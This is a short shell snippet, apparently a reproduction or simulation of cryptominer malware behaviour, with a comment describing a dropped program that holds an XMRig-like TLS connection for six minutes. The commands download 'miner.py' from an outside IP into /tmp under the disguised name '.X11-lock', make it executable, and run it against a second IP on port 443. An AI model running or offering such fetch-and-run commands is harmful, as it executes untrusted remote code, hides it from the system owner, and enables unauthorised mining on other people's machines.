# A dropped program keeps up a TLS connection for six minutes. It names no host, its socket is set up as XMRig's, it sends
# messages of one size by chance and gets others unasked. Nothing it says can be read.
curl -s -o /tmp/.X11-lock http://203.0.113.10/miner.py
chmod +x /tmp/.X11-lock
/tmp/.X11-lock tls 203.0.113.20 443 360
